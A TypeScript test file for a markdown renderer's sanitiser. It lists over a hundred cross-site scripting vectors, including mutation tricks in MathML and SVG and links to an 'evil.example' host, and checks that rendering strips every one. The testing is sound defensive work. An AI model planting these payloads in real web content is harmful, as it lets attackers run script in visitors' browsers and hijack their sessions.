import fc from 'fast-check';
import type { Element } from 'hast';
import rehypeRaw from 'rehype-raw';
import { unified } from 'unified';
import { describe, expect, it } from 'vitest';
import { testInputs } from '../../testing/random-inputs.ts';
import { eachElement } from './each-node.ts';
import { formulaRenderer } from './formulas/formula-renderer.ts';
import { MATHML_INNER } from './formulas/mathml.ts';
import { renderMarkdown, renderNotes } from './render-markdown.ts';

const options = { imageBase: '/polity/', formulas: formulaRenderer };

const ALLOWED_ATTRIBUTES =
  /^(?:align|alt|ariaDescribedBy|ariaLabel|ariaLabelledBy|checked|cite|className|colSpan|dataFootnote(?:s|Ref|Backref)|dateTime|decoding|dir|disabled|headers|height|href|id|lang|loading|longDesc|name|open|rel|reversed|role|rowSpan|scope|span|src|start|tabIndex|title|type|vAlign|value|width)$/;
const FORBIDDEN_ELEMENTS =
  /^(?:script|style|iframe|frame|object|embed|applet|form|button|select|textarea|svg|base|meta|link|template|noscript|video|audio|source|picture|track|canvas|portal|dialog|slot|title|html|head|body|xmp|plaintext|marquee|foreignObject|animate|set|use)$/i;
const ALLOWED_PROTOCOLS = ['http:', 'https:', 'irc:', 'ircs:', 'mailto:', 'xmpp:'];

/** Attributes of MathML; none of them takes an address or runs code. */
const MATHML_ATTRIBUTES =
  /^(?:accent|accentunder|className|columnspan|depth|dir|display|displaystyle|fence|form|height|id|lang|largeop|linethickness|lspace|mathsize|mathvariant|maxsize|minsize|movablelimits|notation|rowSpan|rspace|scriptlevel|separator|stretchy|symmetric|title|voffset|width)$/;

/** Everything in `html` that could run, load or submit something when a browser parses it. */
function dangers(html: string): string[] {
  const tree = unified()
    .use(rehypeRaw)
    .runSync({ type: 'root', children: [{ type: 'raw', value: html }] });
  const found: string[] = [];
  const formulaParts = new Set<Element>();
  eachElement(tree, (element) => {
    const { tagName, properties } = element;
    if (MATHML_INNER.includes(tagName) && !formulaParts.has(element)) found.push(`${tagName} outside math`);
    if (tagName === 'math' || formulaParts.has(element)) {
      if (tagName !== 'math' && !MATHML_INNER.includes(tagName)) found.push(`${tagName} in math`);
      for (const child of element.children) if (child.type === 'element') formulaParts.add(child);
      for (const name of Object.keys(properties)) {
        if (!MATHML_ATTRIBUTES.test(name)) found.push(`${tagName} ${name}`);
      }
      return;
    }
    if (FORBIDDEN_ELEMENTS.test(tagName)) found.push(tagName);
    if (tagName === 'input' && properties['disabled'] !== true) found.push('input');
    for (const [name, value] of Object.entries(properties)) {
      if (!ALLOWED_ATTRIBUTES.test(name)) found.push(`${tagName} ${name}`);
      if (!['href', 'src', 'cite', 'longDesc'].includes(name)) continue;
      const { protocol } = new URL(String(value), 'https://site.invalid/a/b');
      if (!ALLOWED_PROTOCOLS.includes(protocol)) found.push(`${tagName} ${name} ${protocol}`);
    }
  });
  return found;
}

const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)//',
  '<img src=x onerror=alert(1)>',
  '<img src=x oNeRrOr\n=\nalert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img srcset="data:image/svg+xml,x 1x, https://evil.example/y 2x" src=a.png>',
  '<picture><source srcset="javascript:alert(1)"><img src=a.png></picture>',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
  '<math><a xlink:href=javascript:alert(1)>x</a></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<math><annotation-xml encoding="application/xhtml+xml"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><style><a title="</style><img src=x onerror=alert(1)>">',
  '<math href="javascript:alert(1)"><mi href=javascript:alert(1) xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><maction actiontype="statusline#javascript:alert(1)" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mi style="background:url(javascript:alert(1))" onclick=alert(1) mathbackground="url(x)">x</mi></math>',
  '<math><mtext><img src=x onerror=alert(1)></mtext><mi><svg onload=alert(1)></mi></math>',
  '<math><mtext><math><mtext><img src=x onerror=alert(1)></mtext></math></mtext></math>',
  '<math><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<math><mi><mglyph src=x onerror=alert(1)><malignmark onclick=alert(1)></mi></math>',
  '<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><![CDATA[<img src=x onerror=alert(1)>]]><!--<img src=x onerror=alert(1)>--></math>',
  '<math><mfenced open="<img src=x onerror=alert(1)>" onclick=alert(1)><mi>x</mi></mfenced></math>',
  '<math><mspace width="9999em" height="expression(alert(1))" voffset="-9999px"></mspace></math>',
  '<svg><math><mi><desc><img src=x onerror=alert(1)></desc></mi></math></svg>',
  '<mi href=javascript:alert(1)><mtext><img src=x onerror=alert(1)></mtext></mi>',
  '$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$ $\\class{x" onclick="alert(1)}{x}$',
  '$\\text{<img src=x onerror=alert(1)>}$ $$<img src=x onerror=alert(1)>$$',
  '$\\style{background:url(javascript:alert(1))}{x}$ $\\color{red;background:url(x)}x$ $\\includegraphics{//evil.example/x}$',
  '$\\data{a=1}{x}$ $\\id{cookie}{x}$ $\\htmlData{a=1}{x}$ $\\def\\x{\\x\\x}\\x$',
  '$$\n</math><img src=x onerror=alert(1)>\n$$',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><style/><img src=x onerror=alert(1)>',
  '<style>@import "//evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=data:text/html,<script>alert(1)</script>></object>',
  '<embed src=javascript:alert(1)>',
  '<form action=javascript:alert(1)><input type=submit autofocus onfocus=alert(1)></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<video poster=javascript:alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background=javascript:alert(1)><td background="javascript:alert(1)">x',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \t\n javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://site.invalid/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="x" target=_blank onclick=alert(1) ping=//evil.example download>x</a>',
  '<a href="x" name=getElementById id=cookie>x</a><img name=body src=a.png>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<img longdesc="javascript:alert(1)" src="javascript:alert(1)" usemap="#m" lowsrc=javascript:alert(1)>',
  '<div contenteditable accesskey=x tabindex=1 autofocus onfocus=alert(1) is=x-y slot=z part=p>x</div>',
  '<template><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<div id="a"\u0000 onclick="alert(1)">x</div>',
  '<x-y onclick=alert(1)><slot name=x></x-y>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](&#x6a;avascript:alert(1))',
  '[x](\\javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x]: javascript:alert(1)\n\n[x] ![x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x" onerror="alert(1)](a.png "t\\" onerror=\\"alert(1)")',
  '# <img src=x onerror=alert(1)> javascript:alert(1)',
  '`<script>alert(1)</script>`\n\n```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |',
  'a[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
  '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: x',
];

describe('executable HTML', () => {
  it.each(VECTORS)('is removed from %j', (vector) => {
    // Inside an HTML block, the vector reaches the HTML parser without being parsed as markdown.
    const text = `before\n\n${vector}\n\n<div>${vector}</div>\n\n# Section\n\ninline ${vector} end\n`;
    const { intro, sections, footnotes } = renderNotes(text, options);
    const parts = [intro, ...sections.flatMap(({ headingHtml, html }) => [headingHtml, html]), footnotes];
    for (const html of [...parts, parts.join(''), renderMarkdown(text, options)])
      expect(dangers(html)).toEqual([]);
    expect(intro).toContain('before');
  });

  testInputs('is removed from any combination of pieces, and every section has a unique id', 100, (runs) => {
    const pieces = [
      ...VECTORS.flatMap((vector) => vector.split(/(?<=[>"\s])/)),
      '\n',
      '\n\n',
      '# ',
      '> ',
      '- ',
      '|',
      '`',
      '<details>',
      '</details>',
      '<div>',
      '<!--',
      '-->',
      '$',
      '$$',
      '<math>',
      '</math>',
      '<mtext>',
      '<mi>',
      '<svg>',
      '<table>',
      '<p>',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 40 }), (parts) => {
        const { intro, sections, footnotes } = renderNotes(parts.join(''), options);
        const html = [
          intro,
          ...sections.flatMap((section) => [section.headingHtml, section.html]),
          footnotes,
        ].join('');
        expect(dangers(html)).toEqual([]);
        expect(new Set(sections.map(({ id }) => id)).size).toBe(sections.length);
      }),
      runs,
    );
  });

  it('is detected by the check that these tests use', () => {
    expect(VECTORS.filter((vector) => dangers(vector).length > 0).length).toBeGreaterThan(60);
    expect(dangers('<p id="a">x</p>')).toEqual([]);
  });
});

describe('ids and names set by authors', () => {
  it('get a prefix', () => {
    expect(renderMarkdown('<p id="location">x</p><a name="cookie">y</a>')).toBe(
      '<p id="user-content-location">x</p><a name="user-content-cookie">y</a>',
    );
    expect(renderMarkdown('<p aria-label="x" id="a b">x</p>')).toBe('<p id="user-content-a b">x</p>');
  });

  it('never equal an id of the page', () => {
    const { sections } = renderNotes('# _body-0\n\n<p id="body-0">x</p>\n', { imageBase: '' });
    expect(sections[0]?.id).toBe('body-0');
    expect(sections[0]?.html).toContain('id="user-content-body-0"');
  });
});
